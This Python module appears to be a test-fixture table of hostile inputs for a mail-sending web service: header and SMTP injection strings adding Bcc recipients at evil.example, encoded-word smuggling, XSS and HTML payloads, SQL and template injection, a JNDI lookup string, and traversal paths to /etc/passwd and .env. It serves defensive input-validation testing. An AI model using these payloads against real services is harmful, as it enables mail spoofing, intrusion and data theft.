"""Hostile values, as data: texts by kind, raw JSON, base64, addresses, names of files, media types, HTML, header words.

What is said of each kind: where it must be refused, and where it may be taken. ``MARK`` stands in nearly all of them, so
that a log line or an answer's header that repeats one can be found.
"""

from __future__ import annotations

import base64
from typing import Any

MARK = "hostile7c1"
BCC = f"Bcc: {MARK}@evil.example"

C0 = [chr(code) for code in range(32)]
C1 = [chr(code) for code in range(0x7F, 0xA0)]
BREAKS = ["\u2028", "\u2029"]
BIDI = list("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
INVISIBLE = [
    "\u115f",
    "\u1160",
    "\u17b4",
    "\u180e",
    "\u2061",
    "\u3164",
    "\uffa0",
    "\ufff0",
    "\U0001d173",
    "\U000e0fff",
    "\ufeff",
    "\ufff9",
    "\ufffa",
    "\ufffb",
    "\U000e0001",
    "\U000e0020",
    "\U000e0041",
    "\U000e007f",
]

NEVER_IN_A_LINE = C0 + C1 + BREAKS + BIDI + INVISIBLE
# Tabs and line ends belong in a body; marks of direction do too: Arabic and Hebrew letters need them.
NEVER_IN_A_BODY = [one for one in C0 if one not in "\t\n\r"] + C1 + ["\ufff9", "\ufffa", "\ufffb"]

LINES: list[str] = [
    *(f"{MARK}{one}a" for one in NEVER_IN_A_LINE),
    *(f"{one}{MARK}" for one in ("\0", "\t", "\n", "\r", "\r\n", "\x1b[2J", "\x7f", "\x85", "\u202e", "\u2066", "\ufeff")),
    *(f"{MARK}{one}" for one in ("\0", "\t", "\n", "\r", "\r\n", "\r\n\r\n", "\x85", "\u2028", "\u202e", "\u2069", "\ufeff")),
    f"a\r\n{BCC}", f"a\n{BCC}", f"a\r{BCC}", f"a\x0b{BCC}", f"a\x0c{BCC}", f"a\x85{BCC}", f"a\u2028{BCC}", f"a\r\n {BCC}", f"a\n\t{BCC}",
    f"a\r\n\r\n<p>{MARK}</p>", f"a\r\n.\r\nMAIL FROM:<{MARK}@evil.example>", f"a\n.\nRCPT TO:<{MARK}@evil.example>", f"\r\nContent-Type: text/html\r\n\r\n{MARK}",
    f"{MARK}\u202efdp.exe", f"{MARK}\u2067fdp\u2069.exe", f"\x1b]0;{MARK}\x07", f"{MARK}\0.pdf", f"{MARK} %0d%0a\r\n{BCC}",
    f"{MARK}\nSet-Cookie: session=x", f"{MARK}\r\nX-Sealpost: yes", f"=?utf-8?q?{MARK}?=\r\n {BCC}", f"{MARK}\x00\x00\x00\x00", "\r\n" * 50 + MARK,
]  # fmt: skip
"""Refused in every field of one line, and in file names, types and addresses too."""

BODIES: list[str] = [
    *(f"{MARK}{one}a" for one in NEVER_IN_A_BODY),
    f"\0{MARK}", f"{MARK}\0", f"{MARK}\x1b[31m", f"{MARK}\r\n.\r\n\0", f"{MARK}\x85.\x85MAIL FROM:<charlie@evil.example>",
]  # fmt: skip


def _word(text: str, kind: str = "q", charset: str = "utf-8") -> str:
    """An encoded word (RFC 2047)."""
    octets = text.encode()
    payload = base64.b64encode(octets).decode() if kind in "bB" else "".join(f"={octet:02X}" for octet in octets)
    return f"=?{charset}?{kind}?{payload}?="


ENDS = ["\n", "\r", "\r\n", "\0", "\x0b", "\x85", "\u2028", "\u202e", "\u2066"]
WORDS: list[str] = [
    *(f"{MARK} {_word(end + BCC, kind)}" for end in ENDS for kind in "qQbB"),
    *(f"{_word('x' + end, kind, charset)} {BCC}" for end in ("\n", "\0") for kind in "qb" for charset in ("UTF-8", "us-ascii", "iso-8859-1", "no-such", "utf-8*en", "")),
    *(_word(_word(f"\n{BCC}", inner), outer) for inner in "qb" for outer in "qb"),
    _word(_word(_word(f"\r\n{BCC}"), "b")), f"=?utf-8?q?{MARK}=0A?==?utf-8?q?x?=", f"=?utf-8?Q?=0d=0a{MARK}?=", f"=?utf-8?q?a?=  =?utf-8?b?Cg==?= {MARK}",
    f"=?utf-7?q?+AAo-{MARK}=0a?=", f"=?utf-16?b?CgA=?= {MARK}", f"{MARK} =?utf-8?b?Cg?=", f"=?x?q?{MARK}=0a?=",
]  # fmt: skip
"""Refused in whatever becomes a header of a mail."""

HARMLESS: list[str] = [
    "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1f3\U0001f1f1", "\U0001f44d\U0001f3fd", "e\u0301", "Z\u0336\u0338\u0327a\u0332l\u0347go",
    "Ω", "مرحبا", "שלום", "中文字", "日本語", "ไทย", "ǅ", "ﬁ", "\u00a0x", "x\u3000y", "\u00ad x", "\u200bx", "x\u200cy", "\ue000", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\U0001d54f",
    "' or 1=1 --", "'; drop table tickets; --", "$(id)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{% raw %}", "%s%s%n", "%(subject)s", "%(nothing)s", "{0}", "\\u0000", "\\r\\n" + BCC,
    "%0d%0aBcc: x", "%00", "&#10;Bcc: x", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]>", "<!--", "&lt;", "&", "a;b,c", "(comment)", "<charlie@evil.example>", '"quoted"',
    "\\", "Alice <alice@example.net>", "a@b", "=?", "?=", "=?utf-8?q?plain?=", "=?utf-8?b?SGk=?=", "=0A", "-- ", ".", "..", "From x", ">From", "null", "NaN", "true", "0", "x" * 150, "://", "\u2603\ufe0f",
]  # fmt: skip
"""Odd, and fine in a subject or a name; ``MARK`` is put before them."""

ADDRESSED = [one for one in HARMLESS if "@evil.example" in one or "@example.net" in one]
"""Of these, what no name may hold: somebody else's address."""

WRONG_STRINGS = [
    "0",
    "1",
    "-1",
    "1.5",
    "1e3",
    "true",
    "false",
    "[]",
    "{}",
    '["a"]',
    '{"a":"b"}',
    "[[]]",
    "12345678901234567890",
    "[null]",
    '{"":""}',
]
WRONG_INTEGERS = [
    "true",
    "false",
    '"6"',
    '""',
    "6.0",
    "1e1",
    "0.5",
    "-0.0",
    "[]",
    "{}",
    "[6]",
    '{"a":6}',
    '"six"',
    "12345678901234567890.0",
]
FAR_INTEGERS = [
    "-1",
    "0",
    "91",
    "365",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "99999999999999999999999999999999",
    "-9999999999999999999999999999999",
]
WRONG_BOOLEANS = ["null", "0", "1", '"true"', '"false"', '""', "[]", "{}", "[true]", "0.0", '"yes"', "2"]
WRONG_ARRAYS = ["null", "{}", '""', "0", "1", "true", '"[]"', '{"0":{}}', "1.5"]
WRONG_OBJECTS = ["null", "[]", '""', "0", "true", '"{}"', "[{}]", "1.5"]

HUGE: dict[str, bytes] = {"5,000 digits": b"9" * 5_000, "40 digits": b"1" * 40, "1e999": b"1e999", "-1e400": b"-1e400"}
"""Numbers that nobody could mean: whoever asks for the member refuses them, one that nobody asks for may hold them."""
RAW: dict[str, bytes] = {
    "NaN": b"NaN", "Infinity": b"Infinity", "-Infinity": b"-Infinity", "01": b"01", "+1": b"+1", ".5": b".5", "1.": b"1.", "0x10": b"0x10", "1_000": b"1_000",
    "None": b"None", "undefined": b"undefined", "True": b"True",
    "lone high surrogate": rb'"\ud800"', "lone low surrogate": rb'"\udc00"', "surrogate and letter": rb'"\ud800a"', "surrogates turned round": rb'"\ude00\ud83d"', "half of an emoji": rb'"x\ud83d"',
    "octet ff": b'"\xff"', "surrogate in UTF-8": b'"\xed\xa0\x80"', "overlong NUL": b'"\xc0\x80"', "overlong slash": b'"\xe0\x80\xaf"', "cut UTF-8": b'"\xe2\x82"', "beyond Unicode": b'"\xf4\x90\x80\x80"', "latin-1": b'"caf\xe9"',
    "bare NUL": b'"a\x00b"', "bare line end": b'"a\nb"', "bare tab": b'"a\tb"', "escape x": rb'"\x41"', "escape 0": rb'"\0"', "short escape": rb'"\u12"', "bad escape": rb'"\uZZZZ"',
    "single quotes": b"'a'", "no quotes": b"a", "comment": b"/* a */ 1", "comma behind": b'"a",', "two values": b'"a" "b"', "open string": b'"a', "open array": b"[1", "wrong bracket": b"[1}",
    "depth 17": b"[" * 17 + b"]" * 17, "depth 100,000": b"[" * 100_000 + b"]" * 100_000, "depth 100,000, objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "5,001 values": b"[" + b"1," * 5_000 + b"1]",
    "twice inside": b'{"a":1,"a":1}', "twice inside, escaped": rb'{"a":1,"\u0061":1}', "a long name": b'{"' + b"n" * 1_025 + b'":1}',
}  # fmt: skip
"""Octets that no value of a member may be: the whole body is refused."""

BASE64: list[str] = [
    "Q", "QU", "QUI", "QUJDR", "QUJDRA", "QUJDRA=", "QUJDRE==", "QUJDRB==", "QUI=QUJD", "QUI=QUI=", "QQ==QQ==", "QQ==QUJD", "=", "==", "===", "====", "=QUJ", "Q===", "QUJD=", "QUJD==", "QUJD====",
    "QR==", "QUJ=", "QUL=", "QV==", "Q/==", "_-__", "-A==", "QU-D", "QU_D", "QUJD\0", "Q\0JD", "QUJ\x7f",
    "QUJé", "QUJ\u00a0", "QUJ\u2028", "ＱＵＪＤ", "QUJ\u200b", "\ufeffQUJD", "QUJD\U0001f600", "!!!!", "QUJ*", "QUJ.", "QUJ:", "QU,D", "QUJD,QUJD", "data:text/plain;base64,QUJD", "base64:QUJD", "%51UJD", "QUJD%0A", "QUJD&", "<QUJD>",
    '"QUJD"', "QUJD;", "QUJD\\", "\\QUJ", "QUJ\\n", "QUJD\v", "QUJD\f", "QUJD\x85", "QUJD\x1a", "QUJD" * 5_000 + "Q", "QUJD" * 5_000 + "=", "A" * 65_535, "A" * 99_999, "QUJD" * 300_000 + "Q",
]  # fmt: skip

FILE_NAMES: list[str] = [
    "../passwd", "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "\\\\host\\share", "C:\\a.txt", "C:/a.txt", "a/b.txt", "a\\b.txt", "./a", ".\\a", "/", "\\", "//", ".", "..", "...", ". .", " . ", " ", "  ", "", "\u00a0", "\u3000",
    " a.txt", "a.txt ", "\u00a0a.txt", "a.txt\u3000", "CON", "con", "con.txt", "PRN", "aux.pdf", "NUL", "nul.tar.gz", "COM1", "com9.txt", "LPT1", "lpt0.pdf", "message_body",
    "x" * 256, "é" * 128, "\U0001f600" * 64, "x" * 252 + ".pdf", "a/" + "x" * 200, "%2e%2e/a", "file:///etc/passwd", "\u2044/a", "..%2f/", "a/../b", "a//b", f"{MARK}/..",
]  # fmt: skip

MEDIA_TYPES: list[str] = [
    "", " ", "pdf", "application", "application/", "/pdf", "/", "application//pdf", "application/pdf/x", " application/pdf", "application/pdf ", "application/ pdf", "application /pdf", "application/pdf;", "application/pdf; charset=utf-8",
    "application/pdf;name=a", "application/pdf, text/html", "text/plain\r\nBcc: x", "text/plain\nX-A: b", "text/plain\0", "text/pläin", "text/\U0001f600", "*/*", "text/*", "multipart/mixed", "multipart/alternative", "MULTIPART/related", "message/rfc822", "message/partial",
    "message/external-body", "Message/RFC822", "text/<b>", "text/(a)", 'text/"a"', "text/a=b", "text/a?b", "text/a@b", "text/a\\b", "text/a[b]", "text/a:b", "text/a%b", "text/a,b", "text/a b", "text/\ta", "text/" + "a" * 128, "a" * 128 + "/b", "text/\u202ea", "=?utf-8?q?text?=/plain", "text/'a'", "text/a|b", "text/a~b", "-text/plain", "text/.plain",
]  # fmt: skip

ADDRESSES: list[str] = [
    "", " ", "@", "bob", "bob@", "@example.com", "bob@example", "bob@@example.com", "bob@exam@ple.com", "bob example@example.com", " bob@example.com", "bob@example.com ", "bob@ example.com", "bob @example.com", "bob@example.com,charlie@evil.example", "bob@example.com;charlie@evil.example",
    "bob@example.com charlie@evil.example", "Bob <bob@example.com>", "<bob@example.com>", '"bob"@example.com', '"b ob"@example.com', '"bob\\"@x"@example.com', "bob(comment)@example.com", "(c)bob@example.com", "bob@example.com(c)", "bob@[127.0.0.1]", "bob@[IPv6:::1]", "bob@127.0.0.1", "bob@1.2", "bob@example.1",
    ".bob@example.com", "bob.@example.com", "b..ob@example.com", "bob@.example.com", "bob@example.com.", "bob@example..com", "bob@-example.com", "bob@example-.com", "bob@exam_ple.com", "bob@exam!ple.com", "bob@exam ple.com", "bob@example.c*m", "bob@" + "a" * 64 + ".com", "b" * 65 + "@example.com", "bob@" + "a." * 130 + "com",
    "é" * 33 + "@example.com", "bob@\u2615.example", "bob@\u2100.example", "bob@\u0378.example", "bob@a\u200db.example", "bob@a\u200cb.example", "bob@\U0001f600\ufe0f.example\u2028", "b\u200bob@example.com", "b\u00adob@example.com", "b\u00a0ob@example.com", "b\u3000ob@example.com", "b\u2060ob@example.com", "\ue000bob@example.com", "b\ufffeob@example.com", "b\U0010ffffob@example.com",
    "bob@example.com\r\nBcc: charlie@evil.example", "bob@example.com\nRCPT TO:<charlie@evil.example>", "bob@example.com> SIZE=1", "bob@example.com>\r\nDATA", "bob\\@example.com", "bob,@example.com", "bob:x@example.com", "[bob]@example.com", "bob;x@example.com", "mailto:bob@example.com", "bob@example.com?subject=x", "bob@example.com#", "bob@example.com/x", "bob%evil.example@", "bob@exam%ple.com", "bob@example,com", "bob@xn--.com-", "bob@exa\\mple.com",
    "=?utf-8?q?bob?=@example.com", "=?utf-8?q?=0ABcc:_x?=@example.com", "=?utf-8?b?Cg==?=@example.com", "bob=?utf-8?q?=0D=0A?=x@example.com", "=?x@example.com", "a=?utf-8?q?b@example.com",
    "bob@" + "a" * 300 + ".com", "b" * 300 + "@example.com", "b'ob@exam'ple.com", "javascript:alert(1)@example.com", "bob@exam|ple.com", "bob@$(id).example", "bob@`id`.com", "../bob@../etc", "bob@{{7*7}}.com",
    *(f"b{one}ob@example.com" for one in NEVER_IN_A_LINE), *(f"bob@exam{one}ple.com" for one in NEVER_IN_A_LINE),
]  # fmt: skip

HTML: list[str] = [
    "<p>a<script>alert(1)</script></p>", "<script src=//evil.example></script><p>a</p>", "<p onclick=alert(1)>a</p>", "<p><img src=x onerror=alert(1)></p>", "<p><img src='https://evil.example/a.png'></p>", "<p><iframe src=//evil.example></iframe></p>", "<div><form action=//evil.example><input></form></div>",
    "<p><a href='javascript:alert(1)'>a</a></p>", "<p><a href='data:text/html,x'>a</a></p>", "<p><a href=' javascript:alert(1)'>a</a></p>", "<p><a href='vbscript:x'>a</a></p>", "<p><a href='file:///etc/passwd'>a</a></p>", "<p><a href='//evil.example'>a</a></p>", "<p><a href='/relative'>a</a></p>",
    "<p style='background:url(//evil.example)'>a</p>", "<p style='position:fixed'>a</p>", "<p style='width:expression(alert(1))'>a</p>", "<p style='display:none'>a</p>", "<p style='behavior:url(x)'>a</p>", "<html><head><style>p{display:none}</style></head><body><p>a</p></body></html>",
    "<html><head><link rel=stylesheet href=//evil.example></head><body>a</body></html>", "<html><head><base href=//evil.example></head><body>a</body></html>", "<html><head><meta http-equiv=refresh content='0;url=//evil.example'></head><body>a</body></html>",
    "<p><svg onload=alert(1)></svg></p>", "<p><math><mi>a</mi></math></p>", "<p><object data=x></object></p>", "<p><embed src=x></p>", "<p><video src=x></video></p>", "<p><audio src=x></audio></p>", "<p><button>a</button></p>", "<p><textarea>a</textarea></p>", "<p><select></select></p>", "<p><marquee>a</marquee></p>",
    "<p><template>a</template></p>", "<p><noscript>a</noscript></p>", "<?php echo 1 ?><p>a</p>", "<p><![CDATA[a]]></p>", "<p srcdoc=x>a</p>", "<p formaction=x>a</p>", "<p is=x>a</p>", "<p contenteditable>a</p>", "<custom-element>a</custom-element><p>b</p>", "<p><x:y>a</x:y></p>",
]  # fmt: skip

BAD_OCTETS: list[bytes] = [
    b"%ff=1",
    b"a=%ff",
    b"a=%ed%a0%80",
    b"a=%c0%80",
    b"a=%e2%82",
    b"a=%f4%90%80%80",
    b"%C3%28=1",
    b"a=%E9",
    b"&".join(b"n%d=1" % number for number in range(60)),
]
RAW_OCTETS: list[bytes] = [b"a=\xff", b"\xff=a", b"a=\xe9", b"a=\xed\xa0\x80", b"a=\xc0\x80"]
DOUBLED: list[bytes] = [b"a=1&a=2", b"a=1&a=1", b"a=&a=", b"a=1&%61=2", b"x=1&a=%20&x=1"]
"""Refused as a whole in forms and queries of programs. Forms of people leave out what stands there twice."""

CONTENT_TYPES: list[str] = [
    "", "text/plain", "text/json", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json; charset=latin-1", "application/json; charset=iso-8859-1", "application/json; charset=utf-7", "application/json;charset=utf-32", "application/json; charset=windows-1252",
    "application/json; charset=", "application/json; charset='utf-8'", "application/json; charset=utf-8; charset=utf-16", "application/json, application/json", "application/json text/html", "application/jsonp", "application/jso", "xapplication/json", "application/json/x", "application / json", "json", "*/*", "application/*", "application/vnd.api+json", "application/ld+json",
    "application/json\u00a0", "ａpplication/json", "application/json" + "x" * 4_000, "application/json charset=utf-8", 'application/json; charset="utf-8', "application/octet-stream", "message/rfc822",
]  # fmt: skip

CREDENTIALS: list[str] = [
    "", "Bearer", "Bearer ", "Bearer  ", "Basic", "Basic ", "Digest x", "Negotiate x", "Token x", "bearer", f"Bearer {MARK}", f"Bearer {MARK} {MARK}", f"Bearer {MARK},{MARK}", f"Bearer {MARK}é", "Bearer ===", "Bearer a=b", "Bearer {}", 'Bearer "a"', "Bearer null", "Bearer undefined", "Bearer a\tb", "Bearer\ta", "Bearerx", "Bearer:x", "Bearer=x",
    "Bearer " + "a" * 900, "Bearer " + "a" * 2_000, "Basic " + "a" * 2_000, "Bearer ' or 1=1 --", "Bearer ../../etc/passwd", "Bearer %00", "Bearer <script>", "Basic !!!!", "Basic ====", "Basic YTpi YTpi", "Basic YTpi,YTpi", "Basic YTp", "Basic YTpi=", "Basic YTpiYg=", "Basic YTpiYh==", "Basic _-__", "Basic YTpi\u00e9", "Basic YTo=", "Basic OmI=", "Basic YWxpY2U=",
    *("Basic " + base64.b64encode(raw).decode() for raw in (b"a:\xff", b"\xff:a", b"a:b\0", b"a\0:b", b"a\r\nb:c", b"a:\r\nb", b"a\tb:c", b"a\x7f:b", b"alice-service:wrong", b"alice-service:", b":", b"' or 1=1 --:x", b"%:%", b"\xed\xa0\x80:a", b"\xc0\x80:a", "\U0001f600:\U0001f600".encode(), "alice-service\u202e:x".encode(), b"alice-client:wrong", b"x" * 700 + b":y")),
    "BASIC YTpi", "Bearer " + MARK * 50, "Basic Basic YTpi", "Bearer Bearer a", "Bearer -", "Bearer .", "Bearer /", "Basic %59%54%70%69", "Basic YTpi#", "Bearer x;y", "Bearer x@y", "Bearer x:y", "Bearer (x)", "AWS4-HMAC-SHA256 x", "Bearer\u00a0x", "Basic\u00a0YTpi",
]  # fmt: skip

KEYS: list[str] = [
    "",
    " ",
    "a b",
    "a\tb",
    "é",
    "\u00a0",
    "k" * 256,
    "k" * 4_000,
    "\u00ff",
    f"{MARK} x",
    "\U0001f600",
    "a\u202eb",
    "\x80",
    "a,b c",
    "\u00adx",
]
GOOD_KEYS: list[str] = [
    "k",
    '"quoted"',
    "a,b",
    "../../etc",
    "%00",
    "k" * 255,
    "';drop/**/table/**/tickets;--",
    f"{MARK}",
    "{}",
    "<x>",
    "\\",
    "0",
    "null",
    "-",
    "~",
]

HOSTS: list[str] = [
    "[", "]", "[::1", "::1]", "[::1]x", "[]", "a[b", "a]b", "a b", "a,b", "a/b", "a\\b", "a@b", "a?b", "a#b", "a:b", "a:-1", "a:99999", ":80", "<script>", 'a"b', "é.example", "a;b", "a%0d%0ab", "{{7*7}}", "user:password@a", "a:80:80", "%", "a|b", "a^b", "`id`", "${x}", "a\u00a0b", "a" * 300, "http://a", "a:8o", "[::1]:x", "[g::1]", "*", "(a)", "[::1::2]", "[1:2:3:4:5:6:7:8:9]", "",
]  # fmt: skip

PATHS: list[str] = [
    "/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/.", "/..", "/.git/config", "/.env", "/%00", "/%0d%0aX-A:%20b", "/%ff", "/%c0%ae%c0%ae/", "/%ed%a0%80", "/%u0041", "/%", "/%zz", "/;a=b", "/a;b", "/a//b", "/a/./b", "/\\evil", "/a\\b", "/api", "/api/", "/api/users", "/api/user;x=1", "/API/USER/", "/webservice", "/webservice/",
    "/webservice/mailsender", "/webservice/mailsender/send/x", "/webservice/mailsender/sen", "/webservice/mailsender/send%00", "/webservice/mailsender/send%2f", "/webservice/mailsender/send;x", "/Webservice/Mailsender/Send", "/webservice/xmlx", "/oauth", "/oauth/", "/oauth/token", "/openapi.yaml", "/robots.txt", "/favicon.ico", "/wp-login.php", "/admin", "/metrics",
    "/~root", "/$%7Bjndi:ldap://evil.example%7D", "/%7b%7b7*7%7d%7d", "/<script>", "/'or'1", '/"x"', "/%2f%2fevil.example", "/evil.example", "/http://evil.example", "/@evil.example", "/a%20b", "/a+b", "/" + "a" * 3_000, "/" + "a/" * 1_500, "/" + "%61" * 1_000, "/" + MARK, f"/{MARK}/%0a", "/%E2%80%AE", "/%F0%9F%98%80", "/demo/clock", "/inbox", "/inbox/api/messages", "/v1", "/v2/x",
]  # fmt: skip
"""Nothing is at any of these."""

IDS: list[str] = [
    "0", "-1", "-0", "+1", "01", "1.0", "1e0", "0x1", "1_0", "1%20", "%201", "1%00", "1%0a", "%ff", "%ed%a0%80", "٣", "１", "²", "1,2", "1;2", "1'", "1--", "' or 1=1", "null", "true", "NaN", "me", "..", "..%2f1", "%2e%2e%2f1", "1%2f2", "{}", "[1]", "*", "9" * 18, "9" * 19, "9" * 30, "9" * 5_000, "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775808", MARK, "%F0%9F%98%80", "%E2%80%AE1",
]  # fmt: skip

SECRETS: list[str] = [
    "x",
    "A" * 42,
    "A" * 44,
    "A" * 43,
    "-" * 43,
    "A" * 42 + "=",
    "A" * 42 + ".",
    "A" * 42 + "+",
    "A" * 42 + "%00",
    "A" * 42 + "%0a",
    "A" * 42 + "é",
    "..",
    "%2e%2e",
    "K." + "A" * 22,
    "null",
    "A" * 3_000,
    "%ff",
    "%ed%a0%80",
    "' or 1=1 --",
    MARK,
    "{{7*7}}",
    "%F0%9F%98%80",
    "A" * 21 + "%0d%0a" + "A" * 20,
    "A/" * 5,
]
TOKENS: list[str] = [
    "",
    "x",
    "K.",
    "K." + "A" * 21,
    "K." + "A" * 22,
    "K." + "A" * 23,
    "k." + "A" * 22,
    "K:" + "A" * 22,
    "K." + "A" * 21 + "=",
    "K." + "A" * 21 + "+",
    "K." + "A" * 21 + "\n",
    "K." + "A" * 22 + "\n",
    "K." + "A" * 22 + "\0",
    "\0",
    "K." + "é" * 22,
    "../../etc/passwd",
    "' or 1=1 --",
    MARK,
    "\U0001f600",
    "\u202e",
    "A" * 3_000,
    "K.٣" + "A" * 21,
    "null",
    "<script>",
]
QUERY_TEXTS: list[str] = [*LINES, *(MARK + text for text in HARMLESS), "", " ", "x" * 3_000]


def kept(texts: list[Any]) -> list[Any]:
    """A table must say each thing once."""
    assert len(set(texts)) == len(texts), [text for text in texts if texts.count(text) > 1]
    return texts


for table in (
    LINES,
    BODIES,
    WORDS,
    HARMLESS,
    BASE64,
    FILE_NAMES,
    MEDIA_TYPES,
    ADDRESSES,
    HTML,
    CONTENT_TYPES,
    CREDENTIALS,
    KEYS,
    HOSTS,
    PATHS,
    IDS,
    SECRETS,
    TOKENS,
):
    kept(table)
